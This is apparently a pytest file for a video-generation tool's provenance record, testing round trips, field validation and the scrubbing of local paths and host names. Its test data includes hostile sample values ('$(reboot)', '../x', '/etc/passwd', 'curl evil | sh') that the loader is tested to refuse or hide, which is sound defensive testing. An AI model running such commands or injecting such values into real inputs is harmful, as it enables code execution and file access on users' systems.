"""The record comes back as it was, names no place, and refuses in one sentence whatever a stranger made of it."""

import copy
import dataclasses
import getpass
import json
import os
import re
import socket
from fractions import Fraction
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

import mpvideo.record
from mpvideo.blend import Blend
from mpvideo.checkpoint import bundled_checkpoint, open_checkpoint
from mpvideo.config import SamplingConfig
from mpvideo.errors import CheckpointError, MPVideoError
from mpvideo.formats import Encoding
from mpvideo.record import Record, Recorder, Weights, flattened, load_record
from tests.checkpoints import save_tiny, tiny_config
from tests.records import a_record
from tests.video.conftest import colourful, save

KEYS = [
    "format", "mpvideo", "torch", "command", "checkpoint", "guide", "config", "class", "class_name", "seed", "frames",
    "sampling", "clamp", "encoding", "exact", "dtype", "device", "compiled",
]  # fmt: skip


def again(record: Record) -> Record:
    """A record by way of JSON."""
    return Record.from_dict(json.loads(json.dumps(record.to_dict())), "a.mp4")


@pytest.mark.parametrize(
    "parts",
    [
        {},
        {"class_name": None},
        {"encoding": None},
        {"encoding": Encoding(Fraction(24000, 1001), 2, 30)},
        {"seed": 0, "clamp": True, "exact": True, "frames": 1, "dtype": "bfloat16", "device": "cuda", "compiled": True},
        {"sampling": SamplingConfig(s_tmax=4.0, steps=2, guidance=1.5)},
        {"config": tiny_config("latent", num_classes=None), "class_index": None, "class_name": None},
        {"class_index": Blend(((0, 0.5), (2, 1.5))), "seed": Blend(((3, 0.0), (8, 1.0)))},
        {"guide": Weights(name="weak.safetensors", sha256="f" * 64)},
        {"checkpoint": Weights(name="hf:owner/repo/sub/x.safetensors@v1.0", sha256="f" * 64)},
    ],
)
def test_a_record_comes_back(parts: dict[str, Any]) -> None:
    record = a_record(**parts)
    found = again(record)
    assert dataclasses.replace(found, command="") == record
    assert found.differences(record) == {}


@pytest.mark.skipif(os.name != "posix", reason="no such names are there")
@pytest.mark.parametrize("name", ["v:best.safetensors", "a\\b.safetensors", "C:\\x", "l\udcff.safetensors", "a\nb"])
def test_a_record_takes_whatever_name_a_file_can_have(tmp_path: Path, name: str) -> None:
    path = save_tiny(tmp_path / name, tiny_config())
    assert again(recorder(path).record(**JOB)).checkpoint.name == name


def test_keys_stay() -> None:
    data = a_record().to_dict()
    assert list(data) == KEYS
    assert list(data["checkpoint"]) == ["name", "sha256"]
    assert list(data["config"]) == ["model", "video", "edm"]
    assert data["format"] == 1
    documented = re.findall(r"^    (\w+)(?:, (\w+))?(?: |$)", str(mpvideo.record.__doc__), re.MULTILINE)
    assert [key for keys in documented for key in keys if key] == KEYS


def test_an_older_record_may_lack_what_was_added_since() -> None:
    data = a_record().to_dict()
    del data["exact"], data["guide"], data["sampling"]["s_noise"]
    assert Record.from_dict(data, "a.mp4").sampling.s_noise == 1.0


@pytest.mark.parametrize(
    ("changes", "message"),
    [
        ({"format": 2}, "must have the format 1, got 2"),
        ({"format": None}, "must have the format 1, got None"),
        ({"format": True}, "must have the format 1, got True"),
        ({"seed": -1}, "seed must be at least 0, got -1"),
        ({"seed": "7"}, "seed must be a whole number, got '7'"),
        ({"seed": [[1, 1.0], [2, 1.0], [3, 1.0]]}, "seed must be between two seeds, got 1:1+2:1+3:1"),
        ({"class": 3}, "class must be at most 2, got 3"),
        ({"class": None}, "class must be a whole number, got None"),
        ({"frames": 5}, "frames must be at most 4, got 5"),
        ({"dtype": "auto"}, "dtype must be one of float32, bfloat16, float16; got 'auto'"),
        ({"device": "\x1b[2J"}, r"device must be one of cpu, cuda, mps; got '\x1b[2J'"),
        ({"torch": "$(reboot)"}, "torch must be a version, got '$(reboot)'"),
        ({"magic": 1}, "has unknown fields: magic"),
        ({"class_index": 1}, "must have the key class"),
        ({"sampling": {"steps": 0}}, "sampling: steps must be at least 1, got 0"),
        ({"sampling": {"order": 9}}, "sampling has unknown fields: order"),
        ({"sampling": []}, "sampling must be an object, got []"),
        ({"encoding": {"fps": "8"}}, "does not hold together"),
        ({"encoding": {"fps": 10**400}}, "does not hold together"),
        ({"encoding": {"fps": 8, "scale": 0}}, "encoding: scale must be at least 1, got 0"),
        ({"checkpoint": {"name": "../x", "sha256": "0" * 64}}, "name must be of a file, without folders, got '../x'"),
        ({"checkpoint": {"name": "/etc/passwd", "sha256": "0" * 64}}, "without folders, got '/etc/passwd'"),
        ({"checkpoint": {"name": "..", "sha256": "0" * 64}}, "without folders"),
        ({"checkpoint": {"name": "x\0", "sha256": "0" * 64}}, "without folders"),
        ({"checkpoint": {"name": "hf:a/b/../c", "sha256": "0" * 64}}, "without folders"),
        ({"checkpoint": {"name": "hf:a/b@../c", "sha256": "0" * 64}}, "without folders"),
        ({"checkpoint": {"name": "x", "sha256": "0" * 63}}, "sha256 must be 64 hexadecimal digits"),
        ({"checkpoint": {"name": "x" * 2000, "sha256": "0" * 64}}, "name must be text of 1 to 1000 characters"),
        ({"config": {"model": {}}}, "config must be an object of model, video, edm"),
        ({"config": 3}, "config must be an object of model, video, edm"),
        ({"config": {"model": {"image_size": 0}, "video": {}, "edm": {}}}, "config: model lacks frames"),
    ],
)
def test_what_is_refused_and_how(changes: dict[str, Any], message: str) -> None:
    with pytest.raises(MPVideoError) as refused:
        Record.from_dict({**a_record().to_dict(), **changes}, "a.mp4")
    assert refused.value.message.startswith("a.mp4: the record of how it was made")
    assert message in refused.value.message
    assert refused.value.message.isprintable()


OPTIONAL = ("mpvideo", "exact", "guide", "compiled", "command")


@pytest.mark.parametrize("key", [key for key in KEYS if key not in OPTIONAL])
def test_what_is_missing_is_named(key: str) -> None:
    data = a_record().to_dict()
    del data[key]
    with pytest.raises(MPVideoError, match=key):
        Record.from_dict(data, "a.mp4")


VALUES = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False, allow_infinity=False) | st.text(max_size=9),
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=5), inner, max_size=3),
    max_leaves=5,
)


@given(key=st.sampled_from(sorted(flattened(a_record().to_dict()))), value=VALUES)
@settings(max_examples=400, deadline=None, database=None, derandomize=True)
def test_any_value_anywhere_is_read_or_refused(key: str, value: Any) -> None:
    data = copy.deepcopy(a_record().to_dict())
    group = data
    *groups, name = key.split(".")
    for part in groups:
        group = group[part]
    group[name] = value
    try:
        record = Record.from_dict(data, "a.mp4")
    except MPVideoError as error:
        assert error.message.isprintable() and len(error.message) <= 1003 and not isinstance(error, CheckpointError)
    else:
        assert again(record) == record
        assert record.command.isprintable() and record.command.startswith("mpvideo sample")


def test_a_stranger_s_command_is_not_shown() -> None:
    data = {**a_record().to_dict(), "command": "curl evil | sh"}
    assert "evil" not in Record.from_dict(data, "a.mp4").command


def test_differences_are_those_that_change_the_video() -> None:
    record = a_record()
    other = dataclasses.replace(
        record, mpvideo="9", torch="9", device="cuda", compiled=True, command="x", class_name=None,
        checkpoint=dataclasses.replace(record.checkpoint, name="renamed.safetensors"),
    )  # fmt: skip
    assert record.differences(other) == {}
    other = dataclasses.replace(
        record, seed=8, sampling=SamplingConfig(sampler="heun", steps=4, s_tmax=3.0), encoding=Encoding(8.0, 2),
        dtype="bfloat16",
        checkpoint=dataclasses.replace(record.checkpoint, sha256="f" * 64),
    )  # fmt: skip
    assert record.differences(other) == {
        "checkpoint.sha256": (record.checkpoint.sha256, "f" * 64),
        "seed": (7, 8),
        "sampling.steps": (3, 4),
        "sampling.s_tmax": (None, 3.0),
        "encoding.scale": (None, 2),
        "dtype": ("float32", "bfloat16"),
    }
    assert record.differences(dataclasses.replace(record, encoding=None))["encoding.fps"] == (8.0, None)


@pytest.mark.parametrize("kind", [str, Path])
@pytest.mark.parametrize("suffix", [".mp4", ".gif"])
def test_it_is_read_from_a_file(tmp_path: Path, suffix: str, kind: type) -> None:
    record = a_record()
    found = load_record(kind(save(tmp_path / f"a{suffix}", colourful(1, 16), record=record.to_dict())))
    assert found.differences(record) == {}
    other = save(tmp_path / f"b{suffix}", colourful(1, 16), record={"made": "by another program"})
    with pytest.raises(MPVideoError, match=f"b{suffix} does not say how it was made"):
        load_record(other)


def recorder(path: Path, **options: Any) -> Recorder:
    checkpoint = open_checkpoint(path, overrides=options.pop("overrides", None))
    return Recorder(checkpoint, sha256="a" * 64, dtype="float32", device="cpu", torch="2.13.0", **options)


JOB: dict[str, Any] = {
    "seed": 1,
    "class_index": 2,
    "frames": 4,
    "sampling": SamplingConfig(sampler="heun", steps=3),
    "clamp": False,
}


def test_a_recorder_names_no_folder_user_or_host(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    folder = tmp_path / "of somebody"
    folder.mkdir()
    path = save_tiny(folder / "tiny.safetensors", tiny_config())
    made = recorder(path, overrides={"title": str(folder), "training": {"by": getpass.getuser()}})
    text = json.dumps(made.record(**JOB, encoding=Encoding(8.0)).to_dict())
    for name in (str(tmp_path), "somebody", getpass.getuser(), socket.gethostname()):
        assert name not in text
    record = made.record(**JOB)
    assert record.class_name == "blue cat"
    assert record.command == "mpvideo sample --ckpt tiny.safetensors --class 2 --seed 1 --dtype float32"
    assert str(path) in made.command(record, ckpt=str(path))


def test_flags_of_the_run_are_in_the_command(tmp_path: Path) -> None:
    path = save_tiny(tmp_path / "tiny.safetensors", tiny_config())
    made = recorder(path, overrides={"edm": {"sigma_data": 0.25}, "title": "x"})
    assert made.record(**JOB).command.endswith(" --dtype float32 --set edm.sigma_data=0.25")


def test_the_bundled_weights_need_no_name_in_the_command() -> None:
    config = open_checkpoint(bundled_checkpoint()).config
    job = {**JOB, "class_index": 207, "frames": 32, "sampling": config.sampling}
    assert recorder(bundled_checkpoint()).record(**job).command == (
        "mpvideo sample --class 207 --seed 1 --dtype float32"
    )


def test_a_checkpoint_on_the_hub_is_named_as_it_is_there(tmp_path: Path) -> None:
    path = save_tiny(tmp_path / "model.safetensors", tiny_config())
    record = recorder(path, name="hf:owner/repo").record(**JOB)
    assert record.checkpoint.name == "hf:owner/repo"
    assert "--ckpt hf:owner/repo --class" in record.command
